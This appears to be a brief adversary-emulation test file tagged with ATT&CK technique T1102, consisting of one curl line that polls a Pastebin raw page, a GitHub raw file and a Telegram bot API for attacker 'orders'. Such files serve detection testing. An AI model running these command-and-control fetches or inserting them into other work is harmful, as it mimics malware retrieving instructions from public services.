# title: Orders are read from a page of a public service
# technique: T1102 T1102.001
# needs: curl

curl -s http://pastebin.com/raw/abcdefgh; curl -s http://raw.githubusercontent.com/x/y/main/c; curl -s http://api.telegram.org/bot1:x/getUpdates
